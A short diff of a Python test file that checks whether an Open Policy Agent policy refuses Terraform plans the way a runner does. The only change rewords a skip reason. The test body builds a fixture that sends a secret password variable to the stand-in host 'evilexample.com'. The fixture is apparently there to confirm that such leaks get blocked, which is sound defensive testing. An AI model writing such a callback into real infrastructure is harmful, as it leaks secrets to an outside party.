@@ -107,7 +107,7 @@ def refused_by_opa(plan: object, domains: tuple[str, ...]) -> list[str]:
     return sorted(f"{one['address']}: {one['reason']}" for one in review["refused"])
 
 
-@pytest.mark.skipif(not OPA, reason="opa is not installed; .ci/run installs it if there is a Go")
+@pytest.mark.skipif(not OPA, reason="opa is not installed; .ci/run installs it if Go is installed")
 def test_open_policy_agent_judges_like_the_runner(terraform: Terraform) -> None:
     terraform.write(EPHEMERAL + callback("near", password_wo("var.secret"), url='"https://evilexample.com/hush"'))
     terraform.run("get")
